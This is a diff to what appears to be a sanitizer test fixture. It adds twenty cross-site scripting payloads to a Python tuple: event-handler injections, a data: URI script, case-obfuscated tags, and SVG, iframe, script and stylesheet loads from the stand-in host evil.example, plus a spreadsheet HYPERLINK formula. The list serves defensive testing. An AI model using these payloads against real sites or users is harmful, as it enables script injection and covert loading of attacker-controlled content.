@@ -1,4 +1,4 @@
-"""Forty kinds of text that run as script, or ask another host, if taken for markup."""
+"""Sixty kinds of text that run as script, or ask another host, if taken for markup."""
 
 # Each would call `hit`, raise a dialog or ask evil.example; {n} tells them apart.
 PAYLOADS = (
@@ -42,6 +42,26 @@ PAYLOADS = (
     "[x]: javascript:hit({n})\n[x]",
     "&lt;img src=x onerror=hit({n})&gt;",
     "\u003cimg src=x onerror=hit({n})\u003e\u202e\u2066",
+    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
+    "<svg><image href=//evil.example/{n}.png></image></svg>",
+    "<svg><use href=//evil.example/{n}.svg#x></use></svg>",
+    "<svg><style>@import '//evil.example/{n}.css'</style></svg>",
+    "<svg><foreignObject><img src=x onerror=hit({n})></foreignObject></svg>",
+    "<img srcset=//evil.example/{n}.png>",
+    "<picture><source srcset=//evil.example/{n}.webp><img></picture>",
+    "<video poster=//evil.example/{n}.png></video>",
+    "<div style=background:url(//evil.example/{n}.png)>x</div>",
+    "<table background=//evil.example/{n}.png><td>x</table>",
+    "<link rel=preload as=image href=//evil.example/{n}.png>",
+    "<script type=module src=//evil.example/{n}.js></script>",
+    "<script src=data:text/javascript,hit({n})></script>",
+    "<iframe src=//evil.example/{n}.html></iframe>",
+    "<object type=image/svg+xml data=//evil.example/{n}.svg></object>",
+    "<xss contenteditable tabindex=1 autofocus onfocus=hit({n})>x</xss>",
+    "</style><img src=x onerror=hit({n})>",
+    "<IMG/SRC=x/OnErRoR=hit({n})>",
+    "![x][y]\n\n[y]: //evil.example/{n}.png",
+    '=HYPERLINK("//evil.example/{n}","x")\u2028hit({n})',
 )
 
 
